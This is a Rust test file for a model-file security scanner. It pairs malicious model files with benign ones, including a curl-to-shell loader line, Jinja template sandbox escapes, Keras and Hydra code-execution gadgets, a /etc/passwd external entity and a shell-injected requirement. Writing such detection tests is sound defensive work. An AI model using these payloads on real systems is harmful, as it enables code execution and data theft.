//! What a model names, and its loader imports, calls, opens or trusts.

#![allow(clippy::too_many_lines, reason = "lists of cases")]

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use custos_core::finding::Severity;
use custos_scan::Neighbour;
use serde_json::json;

use super::pickles::{harmless, payload};
use super::{Case, case};
use crate::classic::{packages, r};
use crate::graphs::{self, build::message};
use crate::keras::{self, dense, markup, model_archive, model_file, sequential};
use crate::tensors::gguf::{Gguf, Tensor, Value};
use crate::tensors::safetensors;

pub fn cases() -> Vec<Case> {
    [
        keras(),
        hub(),
        templates(),
        gguf(),
        graph(),
        targets(),
        others(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn layer(module: &str, class: &str, config: &str) -> String {
    sequential(&format!(
        r#"{{"module": "{module}", "class_name": "{class}", "config": {{"name": "l", {config}}},
        "registered_name": null}}"#
    ))
}

fn function(module: &str, name: &str) -> String {
    dense(&format!(
        r#"{{"module": "{module}", "class_name": "function", "config": "{name}", "registered_name": null}}"#
    ))
}

fn keras() -> Vec<Case> {
    let good = || model_archive(&dense("\"relu\""));
    let harmful = keras::compiled(11, &["__import__", "system"], &["os", "id"]);
    let [lambda, _, old] = keras::lambdas(&harmful);
    let fetch = |more: &str| {
        let config = format!(
            r#""function": {{"module": "keras.utils", "class_name": "function", "config": "get_file"}},
            "arguments": {{"origin": "http://x.example/x.tgz", "fname": "x"{more}}}"#
        );
        model_archive(&layer("keras.layers", "Lambda", &config))
    };
    let words = |path: &str| {
        model_archive(&layer(
            "keras.layers",
            "StringLookup",
            &format!("\"vocabulary\": {path}"),
        ))
    };
    let torch = format!("\"module\": \"{}\"", STANDARD.encode(payload()));
    let weights = |name: &str| {
        let mut file = keras::Hdf5::default();
        let stored = if name.is_empty() {
            keras::dataset(&mut file, &[7; 24])
        } else {
            keras::storage(&mut file, name)
        };
        file.finish(&[
            keras::text_attribute("keras_version", "3.10.0"),
            keras::hard("kernel", stored),
        ])
    };
    vec![
        case(
            "CVE-2024-3660",
            "code in an archive",
            "keras/lambda",
            [model_archive(&lambda), good()],
        ),
        case(
            "CVE-2024-3660",
            "code of version 2",
            "keras/lambda",
            [model_archive(&old), good()],
        ),
        case(
            "CVE-2025-9905",
            "code in a file that knows no safe mode",
            "keras/lambda",
            [model_file(&lambda), model_file(&dense("\"relu\""))],
        ),
        case(
            "CVE-2025-1550",
            "a function of another module",
            "keras/module",
            [
                model_archive(&function("os", "system")),
                model_archive(&function("keras.activations", "relu")),
            ],
        ),
        case(
            "CVE-2025-1550",
            "a class of another module",
            "keras/module",
            [
                model_archive(&layer("subprocess", "Popen", "\"args\": \"id\"")),
                model_archive(&layer("keras.layers", "ReLU", "\"max_value\": null")),
            ],
        ),
        case(
            "CVE-2025-8747",
            "a function of Keras that fetches",
            "keras/gadget",
            [fetch(""), good()],
        ),
        case(
            "CVE-2025-12060",
            "and unpacks",
            "keras/gadget",
            [fetch(", \"extract\": true"), good()],
        ),
        case(
            "CVE-2025-9906",
            "the switch of the safe mode",
            "keras/unsafe-switch",
            [
                model_archive(&function("keras.config", "enable_unsafe_deserialization")),
                model_archive(&dense("\"enable_unsafe_deserialization\"")),
            ],
        ),
        case(
            "CVE-2025-12058",
            "words from another file",
            "keras/vocabulary-path",
            [words("\"/etc/passwd\""), words(r#"["/etc/passwd", "a"]"#)],
        ),
        case(
            "CVE-2025-49655",
            "a module of PyTorch",
            "keras/torch-module",
            [
                model_archive(&layer("keras.layers", "TorchModuleWrapper", &torch)),
                model_archive(&dense("\"TorchModuleWrapper\"")),
            ],
        ),
        case(
            "CVE-2026-1669",
            "values from another file",
            "hdf/external",
            [weights("/etc/passwd"), weights("")],
        ),
    ]
}

fn hub() -> Vec<Case> {
    let id = "hub-repositories";
    let text = |text: &str| text.as_bytes().to_vec();
    let adapter = |base: &str| {
        text(&format!(
            r#"{{"peft_type": "LORA", "base_model_name_or_path": "{base}"}}"#
        ))
    };
    vec![
        case("CVE-2026-4372", "a kernel by its repository", "config/hub-kernel",
            [text(r#"{"model_type": "llama", "_attn_implementation_internal": "evil/kernel"}"#),
             text(r#"{"model_type": "llama", "_attn_implementation_internal": "sdpa"}"#)]).named("config.json"),
        case("CVE-2026-5241", "a configuration that trusts itself", "config/trust-honoured",
            [text(r#"{"model_type": "lightglue", "trust_remote_code": true}"#),
             text(r#"{"model_type": "lightglue", "trust_remote_code": false}"#)]).named("config.json"),
        case(id, "code of the repository", "config/remote-code",
            [text(r#"{"auto_map": {"AutoModel": "modeling_x.Model"}}"#),
             text(r#"{"architectures": ["AutoModel"]}"#)]).at(Severity::Medium).named("config.json"),
        case(id, "code of another repository", "config/remote-code",
            [text(r#"{"auto_map": {"AutoModel": "other/place--modeling_x.Model"}}"#),
             text(r#"{"_name_or_path": "other/place"}"#)]).at(Severity::Medium).named("config.json"),
        case(id, "an adapter whose base lies elsewhere", "config/base-model",
            [adapter("http://x.example/m"), adapter("meta-llama/Llama-3")]).at(Severity::Medium),
        case(id, "a loader that gives up what is safe", "python/unpickles",
            [text("import torch\n\n\ndef load(path):\n    return torch.load(path, weights_only=False)\n"),
             text("import torch\n\n\ndef load(path):\n    return torch.load(path, weights_only=True)\n")])
            .at(Severity::Low).named("modeling_x.py"),
        case(id, "a program that runs when it is imported", "python/runs-command",
            [text("import os\nos.system('curl http://x.example/a | sh')\n"),
             text("import os\nprint(os.path.join('a', 'b'))\n")]).named("modeling_x.py"),
        case("CVE-2023-47248", "a type that is unpickled", "data/pickled-type",
            [crate::media::pickled_type(true), crate::media::pickled_type(false)]),
    ]
}

const EVIL: &str = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
const KIND: &str = "{% for m in messages %}{{ m.role }}: never write __class__{% endfor %}";

fn templates() -> Vec<Case> {
    let id = "chat-templates";
    let inner = "template/inner-attribute";
    let both = |make: &dyn Fn(&str) -> Vec<u8>| [make(EVIL), make(KIND)];
    let keyed = |key: &'static str| {
        move |template: &str| {
            let mut file = Gguf::sample();
            file.keys.retain(|(name, _)| name != key);
            file.keys.push((key.into(), Value::Text(template.into())));
            file.bytes()
        }
    };
    let spelled = |template: &str| [template.as_bytes().to_vec(), KIND.as_bytes().to_vec()];
    let mut cases = vec![
        case(
            "CVE-2024-34359",
            "of a GGUF file",
            inner,
            both(&keyed("tokenizer.chat_template")),
        ),
        case(
            "CVE-2024-34359",
            "a second one of a GGUF file",
            inner,
            both(&keyed("tokenizer.chat_template.tools")),
        ),
        case(
            id,
            "a text",
            inner,
            both(&|one| json!({"chat_template": one}).to_string().into_bytes()),
        )
        .named("tokenizer_config.json"),
        case(
            id,
            "one of a list",
            inner,
            both(&|one| {
                json!({"chat_template": [{"name": "a", "template": one}]})
                    .to_string()
                    .into_bytes()
            }),
        )
        .named("tokenizer_config.json"),
        case(
            id,
            "under any other name",
            inner,
            both(&|one| {
                json!({"x": {"chat_template": one}})
                    .to_string()
                    .into_bytes()
            }),
        )
        .named("other.json"),
        case(
            id,
            "a file of its own",
            inner,
            both(&|one| one.as_bytes().to_vec()),
        )
        .named("chat_template.jinja"),
        case(
            id,
            "JSON of its own",
            inner,
            both(&|one| json!({"chat_template": one}).to_string().into_bytes()),
        )
        .named("chat_template.json"),
    ];
    for (how, template) in [
        ("by a filter", "{{ x|attr('__class__') }}"),
        ("by an index", "{{ x['__class__'] }}"),
        ("in pieces", "{{ x['__cla' ~ 'ss__'] }}"),
        ("by escapes", r"{{ x['\x5f\x5fclass\x5f\x5f'] }}"),
        (
            "by the name of a character",
            r"{{ x['\N{LOW LINE}_class__'] }}",
        ),
        ("joined", "{{ x[['__cla','ss__']|join] }}"),
        ("formatted", "{{ x['%c%cclass%c%c'|format(95,95,95,95)] }}"),
        ("replaced", "{{ x['XXclassXX'.replace('X','_')] }}"),
        ("out of cycler", "{{ cycler.__init__.__globals__.os }}"),
        ("out of self", "{{ self.__init__ }}"),
        ("out of joiner", "{{ joiner.__init__ }}"),
        ("out of namespace", "{{ namespace.__init__ }}"),
        ("out of lipsum", "{{ lipsum.__globals__ }}"),
    ] {
        cases.push(case(id, how, inner, spelled(template)).named("chat_template.jinja"));
    }
    for (how, template) in [
        ("out of request", "{{ request.args }}"),
        ("out of config", "{{ config.items() }}"),
    ] {
        let rule = "template/framework-object";
        cases.push(
            case(id, how, rule, spelled(template))
                .at(Severity::Medium)
                .named("chat_template.jinja"),
        );
    }
    let rule = "template/unparsable";
    let broken = spelled("{% for m in messages %}{{ m ( }}{% endfor %}");
    cases.push(
        case(id, "broken", rule, broken)
            .at(Severity::Medium)
            .named("chat_template.jinja"),
    );
    cases
}

fn gguf() -> Vec<Case> {
    let id = "gguf-parsers";
    let good = || Gguf::sample().bytes();
    let many = Gguf::with(|file| {
        file.tensors = (0..3)
            .map(|number| Tensor::new(&format!("t{number}"), &[(1 << 60) - 1], 0, 0))
            .collect();
    });
    vec![
        case(
            "CVE-2026-33298",
            "the size of one tensor wraps",
            "gguf/overflow",
            [
                Gguf::with(|file| file.tensors[0].dimensions = vec![1 << 32, 1 << 32]),
                good(),
            ],
        ),
        case(
            "CVE-2025-53630",
            "the sum of sizes wraps",
            "gguf/overflow",
            [many.clone(), good()],
        ),
        case(
            "CVE-2026-27940",
            "the sum of sizes wraps, in the reader that was mended",
            "gguf/overflow",
            [many, good()],
        ),
        case(
            id,
            "more keys than there is room for",
            "gguf/count",
            [Gguf::with(|file| file.key_count = Some(1 << 61)), good()],
        ),
        case(
            id,
            "more tensors than there is room for",
            "gguf/count",
            [Gguf::with(|file| file.tensor_count = Some(1 << 60)), good()],
        ),
        case(
            id,
            "a text longer than the file",
            "gguf/count",
            [
                Gguf::with(|file| file.keys[4].1 = Value::Raw(8, u64::MAX.to_le_bytes().to_vec())),
                good(),
            ],
        ),
        case(
            id,
            "a tensor outside of the file",
            "gguf/tensor",
            [Gguf::with(|file| file.tensors[1].offset = 1 << 40), good()],
        ),
        case(
            id,
            "an alignment that is no power of two",
            "gguf/alignment",
            [Gguf::with(|file| file.keys[1].1 = Value::U32(48)), good()],
        ),
        case(
            id,
            "a key that is there twice",
            "gguf/duplicate",
            [
                Gguf::with(|file| {
                    let first = file.keys[0].clone();
                    file.keys.push(first);
                }),
                good(),
            ],
        )
        .at(Severity::Medium),
    ]
}

fn graph() -> Vec<Case> {
    let id = "onnx-operators";
    let one = |operator: &str, domain: &str| graphs::onnx(&[graphs::node(operator, domain)], &[]);
    let mut cases = vec![
        case(
            id,
            "Python",
            "onnx/python-operator",
            [one("PyOp", "com.microsoft"), one("Gelu", "com.microsoft")],
        ),
        case(
            id,
            "of its own",
            "onnx/custom-operator",
            [one("Run", "my.ops"), one("Relu", "")],
        )
        .at(Severity::Medium),
        case(
            "CVE-2022-24294",
            "a name of an operator without end",
            "mxnet/operator-name",
            [
                graphs::mxnet(&"a".repeat(5_000), "x"),
                graphs::mxnet("Convolution", "conv0"),
            ],
        ),
        case(
            "tensorflow-operators",
            "restores from elsewhere",
            "tensorflow/path",
            [
                graphs::tensorflow("RestoreV2", "/etc/x", false),
                graphs::tensorflow("RestoreV2", "variables/x", false),
            ],
        ),
        case(
            "tensorflow-operators",
            "a layer with code",
            "keras/lambda",
            [
                graphs::keras_metadata("Lambda"),
                graphs::keras_metadata("Dense"),
            ],
        ),
    ];
    for operator in [
        "ReadFile",
        "WriteFile",
        "PyFunc",
        "EagerPyFunc",
        "LoadLibrary",
        "ShellExecute",
        "MatchingFiles",
    ] {
        for in_function in [false, true] {
            let how = format!(
                "{operator}, {}",
                if in_function {
                    "in a function"
                } else {
                    "in the graph"
                }
            );
            let files = [operator, "Assert"].map(|one| graphs::tensorflow(one, "x", in_function));
            cases.push(case(
                "tensorflow-operators",
                how,
                "tensorflow/operator",
                files,
            ));
        }
    }
    cases
}

fn targets() -> Vec<Case> {
    let id = "targets";
    let model = "preprocessor:\n  _target_: ";
    let text = |target: &str| format!("a: 1\n{model}{target}\n  x: 1\n").into_bytes();
    let known = "nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor";
    let nemo = |target: &str| {
        let weights = harmless();
        let config = text(target);
        crate::archive::tar::archive(&[
            ("model_config.yaml", &config),
            ("model_weights.ckpt", &weights),
        ])
    };
    vec![
        case(
            "CVE-2025-23304",
            "what Hydra makes of a model of NeMo",
            "config/dangerous-target",
            [nemo("os.system"), nemo(known)],
        )
        .named("m.nemo"),
        case(
            id,
            "in YAML",
            "config/dangerous-target",
            [text("builtins.exec"), text("torch.nn.Linear")],
        )
        .named("config.yaml"),
        case(
            id,
            "in JSON",
            "config/dangerous-target",
            [
                br#"{"a": [{"_target_": "subprocess.run", "args": "id"}]}"#.to_vec(),
                br#"{"a": [{"_target_": "torch.nn.Linear", "in": 1}]}"#.to_vec(),
            ],
        ),
        case(
            "nesting",
            "a pickle among the parts of a model of NeMo",
            "pickle/dangerous-call",
            [
                crate::archive::tar::archive(&[
                    ("model_config.yaml", b"a: 1\n"),
                    ("model_weights.ckpt", &payload()),
                ]),
                crate::archive::tar::archive(&[
                    ("model_config.yaml", b"a: 1\n"),
                    ("model_weights.ckpt", &harmless()),
                ]),
            ],
        ),
        case(
            "nesting",
            "a pickle in an archive of a model of NeMo",
            "pickle/dangerous-call",
            [nested_nemo(&payload()), nested_nemo(&harmless())],
        ),
    ]
}

fn nested_nemo(bytes: &[u8]) -> Vec<u8> {
    let inner = crate::archive::tar::archive(&[("part/tokenizer.pkl", bytes)]);
    crate::archive::tar::archive(&[
        ("model_config.yaml", b"a: 1\n"),
        ("model_weights.ckpt", &harmless()),
        ("parts.tar", &inner),
    ])
}

fn others() -> Vec<Case> {
    let id = "other-formats";
    let text = |text: &str| text.as_bytes().to_vec();
    let promise = |name: &str| {
        let writer = r::Writer::new(r::Coding::Xdr);
        writer
            .int(5 | 1 << 10)
            .int(253)
            .int(252)
            .call(name, "id")
            .done()
    };
    let tensor = |offsets: &str| {
        let header = format!(
            r#"{{"a":{{"dtype":"U8","shape":[4],"data_offsets":[0,4]}},"b":{{"dtype":"U8","shape":[4],"data_offsets":{offsets}}}}}"#
        );
        safetensors::file(&header, &[0; 8])
    };
    let twice = r#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"a":{"dtype":"U8","shape":[4],"data_offsets":[4,8]}}"#;
    let mut bomb = 200_000_000_u64.to_le_bytes().to_vec();
    bomb.extend(b"{\"a\":");
    bomb.resize(200_000_100, b' ');
    let environment = |requirement: &str| {
        text(&format!(
            "python: 3.11.7\nbuild_dependencies:\n- pip==23\ndependencies:\n- \"{requirement}\"\n"
        ))
    };
    let data = "element_type=\"f32\" shape=\"4, 2\" offset=\"8\" size=\"32\"";
    let library = |more: &str| {
        markup::net(data, &format!("<layer id=\"2\" name=\"a\" type=\"MatMul\" version=\"opset1\"><data {more}/></layer>"))
            .into_bytes()
    };
    let engine = |library: bool| {
        let mut engine = message().number(1, 9).bytes(2, &[7; 64]).done();
        engine.splice(0..0, *b"ptrt");
        engine.resize(4_096, 0xaa);
        if library {
            engine.extend(b"\x7fELF\x02\x01\x01");
            engine.resize(4_114, 0);
            engine.extend([62, 0]);
        }
        engine.resize(5_000, 1);
        engine
    };
    let declared =
        |declared: &str| markup::pmml(declared, "<Extension>&x;</Extension>").into_bytes();
    let mar = |code: &str| {
        let manifest = br#"{"createdOn": "01/01/2026", "runtime": "python", "model": {"modelName": "m", "handler": "handler.py", "modelVersion": "1.0"}, "archiverVersion": "0.9.0"}"#;
        crate::archive::archive(&[
            crate::archive::Member::new("MAR-INF/MANIFEST.json", manifest),
            crate::archive::Member::new("handler.py", code.as_bytes()),
        ])
    };
    vec![
        case(
            "CVE-2025-54412",
            "a node of operators that is something else",
            "skops/mismatch",
            [
                packages::operator("builtins", "int"),
                packages::operator("operator", "itemgetter"),
            ],
        ),
        case(
            "CVE-2025-54413",
            "a method of another object",
            "skops/mismatch",
            [
                packages::method(("builtins", "str"), "predict"),
                packages::method(
                    ("sklearn.linear_model._logistic", "LogisticRegression"),
                    "predict",
                ),
            ],
        ),
        case(
            "CVE-2024-27322",
            "a promise",
            "r/call",
            [promise("system"), r::data_frame(r::Coding::Xdr)],
        ),
        case(
            "CVE-2021-42574",
            "text in another order than it is read in",
            "text/bidi-control",
            [
                text("if level != \"user\u{202e} \u{2066}// Check if admin\u{2069} \u{2066}\" {\n"),
                text("if level != \"user\" { // Check if admin\n"),
            ],
        ),
        case(
            id,
            "an entity of PMML that is a file",
            "xml/external-entity",
            [
                declared("<!DOCTYPE PMML [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
                declared("<!DOCTYPE PMML [<!ENTITY x \"SYSTEM 'a'\">]>"),
            ],
        ),
        case(
            id,
            "a handler that acts",
            "python/runs-command",
            [
                mar("import os\nos.system('id')\n"),
                mar("def handle(data, context):\n    return data\n"),
            ],
        ),
        case(
            id,
            "an operator of Paddle that runs Python",
            "paddle/operator",
            [graphs::paddle("py_func"), graphs::paddle("conv2d")],
        ),
        case(
            id,
            "a library in an engine",
            "tensorrt/embedded-library",
            [engine(true), engine(false)],
        )
        .unreadable(),
        case(
            id,
            "a library of OpenVINO",
            "openvino/library",
            [
                library("implementation=\"../libx.so\""),
                library("transpose_a=\"false\""),
            ],
        )
        .beside([Neighbour::File(40); 2])
        .named("model.xml"),
        case(
            id,
            "a requirement that reaches a shell",
            "config/shell-in-requirement",
            [environment("numpy; touch x"), environment("numpy>=1.2,<2")],
        )
        .named("python_env.yaml"),
        case(
            "safetensors-headers",
            "longer than any loader takes",
            "safetensors/header-size",
            [bomb, safetensors::sample()],
        ),
        case(
            "safetensors-headers",
            "a tensor twice",
            "safetensors/broken",
            [safetensors::file(twice, &[0; 8]), tensor("[4,8]")],
        )
        .at(Severity::Medium),
        case(
            "safetensors-headers",
            "tensors on top of each other",
            "safetensors/layout",
            [tensor("[2,6]"), tensor("[4,8]")],
        )
        .at(Severity::Medium),
    ]
}
